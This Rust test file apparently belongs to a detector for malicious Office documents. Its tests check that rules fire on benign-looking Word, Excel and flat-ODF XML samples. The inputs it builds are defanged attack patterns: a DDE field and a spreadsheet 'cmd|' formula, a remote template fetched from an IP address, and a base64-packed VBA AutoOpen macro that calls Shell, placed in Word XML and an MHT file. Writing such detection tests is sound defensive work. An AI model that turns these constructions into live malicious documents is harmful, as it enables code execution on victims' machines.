use base64::Engine as _;

use crate::forge::{Example, Specimen, case, fired, type_of, vba};

const WORD: &str = "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\n<w:wordDocument \
                    xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"no\"><w:body/>\
                    </w:wordDocument>";

pub const SPECIMENS: &[Specimen] = &[
    ("xml", || b"<?xml version=\"1.0\"?><list><item>1</item></list>".to_vec()),
    ("word-xml", || WORD.as_bytes().to_vec()),
    ("excel-xml", || {
        b"<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"></Workbook>".to_vec()
    }),
    ("flat-odf", || {
        b"<?xml version=\"1.0\"?><office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">\
          </office:document>"
            .to_vec()
    }),
];

pub const EXAMPLES: &[Example] = &[Example {
    rule: "xml.office-macro",
    fires: || case("letter.xml", WORD.replace("\"no\"", "\"yes\"")),
    silent: || case("letter.xml", WORD),
}];

#[test]
fn a_document_of_one_text_does_what_a_package_does() {
    let word = |inner: &str| case("a.xml", WORD.replace("<w:body/>", inner)).examine();
    let dde =
        word("<w:r><w:instrText>DDE</w:instrText></w:r><w:instrText>AUTO c:\\\\windows\\\\nothing.exe</w:instrText>");
    assert!(fired(&dde).contains(&"ooxml.dde"), "{:?}", fired(&dde));
    let template = word("<w:docPr><w:attachedTemplate w:val=\"http://203.0.113.5/a.dotm\"/></w:docPr>");
    assert!(fired(&template).contains(&"ooxml.remote-template"), "{:?}", fired(&template));
    let sheet = "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
                 xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\
                 <Cell ss:Formula=\"=cmd|'/c nothing'!A1\"><Data ss:Type=\"Error\">#REF!</Data></Cell></Workbook>";
    assert!(fired(&case("a.xml", sheet).examine()).contains(&"ooxml.dde"));
}

#[test]
fn the_macros_in_a_document_of_one_text_are_judged() {
    let source = "Sub AutoOpen()\r\n    Shell \"C:\\nosuch\\nothing.exe\"\r\nEnd Sub\r\n";
    let packed = base64::engine::general_purpose::STANDARD.encode(super::activemime::packed(&vba::project(source)));
    let text = WORD.replace("\"no\"", "\"yes\"").replace(
        "<w:body/>",
        &format!("<w:docSuppData><w:binData w:name=\"editdata.mso\">{packed}</w:binData></w:docSuppData>"),
    );
    let report = case("a.xml", text).examine();
    assert!(fired(&report).contains(&"macros.attack"), "{:?}", fired(&report));
    let mail = format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Location: \
         file:///C:/a.htm\r\nContent-Type: text/html\r\n\r\n<html><link rel=Edit-Time-Data \
         href=\"a_files/editdata.mso\"></html>\r\n--b\r\nContent-Location: file:///C:/a_files/editdata.mso\r\n\
         Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n{packed}\r\n--b--\r\n"
    );
    let report = case("a.mht", mail).examine();
    assert!(fired(&report).contains(&"macros.attack"), "{:?}", fired(&report));
}

#[test]
fn a_doctype_with_an_inner_subset_does_not_hide_the_root() {
    let text = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"<b>\">\n]>\n<jnlp spec=\"1.0+\"></jnlp>";
    assert_eq!(type_of(&case("a.xml", text).examine()), "jnlp");
}
